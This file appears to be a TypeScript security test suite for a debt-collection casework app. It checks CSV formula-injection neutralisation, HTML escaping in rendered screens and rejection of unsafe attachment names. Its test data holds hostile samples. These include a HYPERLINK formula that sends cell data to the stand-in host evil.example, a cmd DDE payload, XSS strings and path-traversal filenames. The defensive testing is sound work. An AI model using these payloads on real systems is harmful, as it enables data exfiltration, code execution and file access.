import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import type { TFunction } from 'i18next';
import type { ReactElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { I18nextProvider } from 'react-i18next';
import { beforeAll, describe, expect, it } from 'vitest';
import { caseRowsToCsv, neutralizeCell } from '../../../renderer/src/cases/caseCsv';
import { exceptionsToCsv, registerToCsv } from '../../../renderer/src/letters/letterCsv';
import { PartyCard } from '../../../renderer/src/cases/screens/PartyCard';
import { Timeline } from '../../../renderer/src/fieldwork/screens/Timeline';
import type { RegisteredLetter } from '../../../renderer/src/letters/repository/register';
import { initI18n, i18next } from '../../../renderer/src/i18n';
import { useAppStore } from '../../../renderer/src/state/appStore';
import type { CaseWork } from '../../../renderer/src/fieldwork/state/fieldworkSlice';
import { summarizeCase } from '../../../shared/domain/caseSummary';
import { checkAttachment } from '../../../shared/fieldwork/visits';
import { AddAttachmentArgsSchema } from '../../../shared/sync/mutationArgs';
import { makeCase } from '../../fixtures/cases';

/** What a spreadsheet would run, at the start of a cell (OWASP CSV injection, plus full-width forms). */
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '＝1+1', '　＋1'];
const DANGEROUS_START = /^[\s\u3000]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n]/;
const t = ((key: string) => key) as unknown as TFunction;
const cellsOf = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, '')).data.flat();

describe('formula injection is neutralised in every CSV export', () => {
  it.each(FORMULAS)('neutralizeCell(%j) starts with a quote', (payload) => {
    expect(neutralizeCell(payload)).toBe(`'${payload}`);
  });

  it('leaves ordinary values alone', () => {
    for (const v of ['张三', '1234.50', 'CS-310115-2026-DK7Q2M-000123', '', 'a=b']) expect(neutralizeCell(v)).toBe(v);
  });

  it.each(FORMULAS)('case list CSV: a borrower named %j', (payload) => {
    const csv = caseRowsToCsv([summarizeCase(makeCase(3, { name: payload }))], t);
    const cells = cellsOf(csv);
    expect(cells.filter((c) => DANGEROUS_START.test(c))).toEqual([]);
  });

  const letter = (payload: string): RegisteredLetter => ({
    id: 'l-1', number: payload, type: 'demand_notice', templateId: payload, templateVersion: '1', caseId: 'c-1', caseNumber: payload, partyId: 'p-1',
    recipientName: payload, issueDate: '2026-11-23', deadline: null, totalFen: 100, verificationCode: 'K7Q2M9XA', noticeCount: 1, pdfSha256: 'a'.repeat(64), pdfBytes: 1,
    issuerId: 'u-1', issuedAt: '2026-11-23T02:00:00Z', copy: false,
    delivery: { method: 'ems', trackingNumber: payload, status: 'sent', at: null, evidence: payload },
    acknowledgement: null, voided: { at: '2026-11-24T02:00:00Z', reason: payload, userId: 'u-1' },
  });

  it.each(FORMULAS)('letter register CSV: every text field %j', (payload) => {
    const cells = cellsOf(registerToCsv([letter(payload)], t));
    expect(cells.filter((c) => DANGEROUS_START.test(c))).toEqual([]);
    expect(cells.length).toBeGreaterThan(12);
  });

  it.each(FORMULAS)('exceptions report CSV: case number and name %j', (payload) => {
    const cells = cellsOf(exceptionsToCsv([{ caseId: 'c-1', caseNumber: payload, partyName: payload, problems: [] }], t));
    expect(cells.filter((c) => DANGEROUS_START.test(c))).toEqual([]);
  });

  it('masks the names in the register and the exceptions report', () => {
    expect(cellsOf(registerToCsv([letter('张三丰')], t))).toContain('张**');
    expect(cellsOf(exceptionsToCsv([{ caseId: 'c-1', caseNumber: 'A1', partyName: '欧阳娜娜', problems: [] }], t))).toContain('欧阳**');
  });
});

describe('markup in free text stays text on screen', () => {
  const IMG = '<img src=x onerror="window.__xss=1">';
  const SCRIPT = '<script>window.__xss=2</script>';
  const html = (el: ReactElement) => renderToStaticMarkup(<I18nextProvider i18n={i18next}>{el}</I18nextProvider>);

  beforeAll(async () => {
    await initI18n('zh-CN');
  });

  it('an imported name and address with markup render as their characters', () => {
    const c = makeCase(5, { name: SCRIPT });
    const party = { ...c.parties[0]!, addresses: c.parties[0]!.addresses.map((a) => ({ ...a, province: IMG })) };
    const patch = { operator: { id: 'sup', name: 'sup', role: 'supervisor' as const, branchCode: c.assignment.branchCode } };
    useAppStore.setState(patch);
    Object.assign(useAppStore.getInitialState(), patch);
    const out = html(<PartyCard party={party} caseId={c.id} assignment={c.assignment} />);
    expect(out).not.toContain('<script');
    expect(out).not.toContain('<img');
    expect(out).toContain('&lt;script&gt;window.__xss=2&lt;/script&gt;');
    expect(out).toContain('&lt;img src=x onerror=&quot;window.__xss=1&quot;&gt;');
  });

  it('a note with markup renders in the timeline as its characters', () => {
    const c = makeCase(6);
    const work: CaseWork = {
      caseId: c.id,
      activities: [{ id: 'a-1', caseId: c.id, partyId: c.parties[0]!.id, channel: 'phone', phoneId: null, addressId: null, outcome: 'no_answer', notes: `${IMG} ${SCRIPT}`, nextAction: SCRIPT, nextActionDate: '2026-12-01', at: '2026-11-23T02:00:00Z', userId: 'u-1', deviceId: 'd-1', override: null }],
      promises: [], payments: [], plans: [], receipts: [], visits: [], disputes: [], letters: [], audit: [], history: [],
    };
    const patch = { caseWork: work };
    useAppStore.setState(patch);
    Object.assign(useAppStore.getInitialState(), patch);
    const out = html(<Timeline timeZone={c.timeZone} />);
    expect(out).toContain('&lt;img src=x onerror=&quot;window.__xss=1&quot;&gt;');
    expect(out).not.toMatch(/<img|<script/);
  });

  it('no renderer code writes raw HTML (no dangerouslySetInnerHTML, innerHTML, outerHTML, insertAdjacentHTML, document.write)', () => {
    const root = join(__dirname, '../../../renderer/src');
    const files = (dir: string): string[] => readdirSync(dir).flatMap((n) => (statSync(join(dir, n)).isDirectory() ? files(join(dir, n)) : /\.(tsx?|m?js)$/.test(n) ? [join(dir, n)] : []));
    const found = files(root).filter((f) => /dangerouslySetInnerHTML|\.innerHTML\s*=|\.outerHTML\s*=|insertAdjacentHTML|document\.write\(/.test(readFileSync(f, 'utf8')));
    expect(files(root).length).toBeGreaterThan(50);
    expect(found).toEqual([]);
  });
});

describe('attachment names cannot traverse out of where they are put', () => {
  const JPEG = new Uint8Array([0xff, 0xd8, 0xff, 0xe0]);
  const check = (fileName: string) => checkAttachment({ fileName, mimeType: 'image/jpeg', sizeBytes: 10, firstBytes: JPEG });

  it.each([
    ['../../etc/passwd.jpg'],
    ['..\\..\\Windows\\win.ini.jpg'],
    ['/etc/x.jpg'],
    ['\\\\server\\share\\x.jpg'],
    ['C:x.jpg'],
    ['photo.jpg:stream'],
    ['AUX.jpg'],
    ['com1.jpg'],
    ['x.jpg '],
    ['..'],
    ['.'],
    ['photo\u202Egpj.exe'],
  ])('refuses %j on the device', (name) => {
    expect(check(name)).toEqual({ ok: false, code: 'unsafe_name' });
  });

  it.each([['../x.jpg'], ['a/b.jpg'], ['a\\b.jpg'], ['x\u0000.jpg'], ['x\n.jpg']])('refuses %j in the addAttachment mutation head office receives', (fileName) => {
    const r = AddAttachmentArgsSchema.safeParse({ caseId: 'c-1', sha256: 'a'.repeat(64), owner: null, fileName, mimeType: 'image/jpeg', sizeBytes: 10, addedAt: '2026-11-23T10:00:00+08:00' });
    expect(r.success).toBe(false);
  });

  it('refuses a URL-encoded traversal too (it starts with dots), and keeps %2F as characters elsewhere', () => {
    expect(check('..%2F..%2Fx.jpg')).toEqual({ ok: false, code: 'unsafe_name' });
    expect(check('a%2Fb.jpg')).toEqual({ ok: true, type: 'image/jpeg' });
  });
});
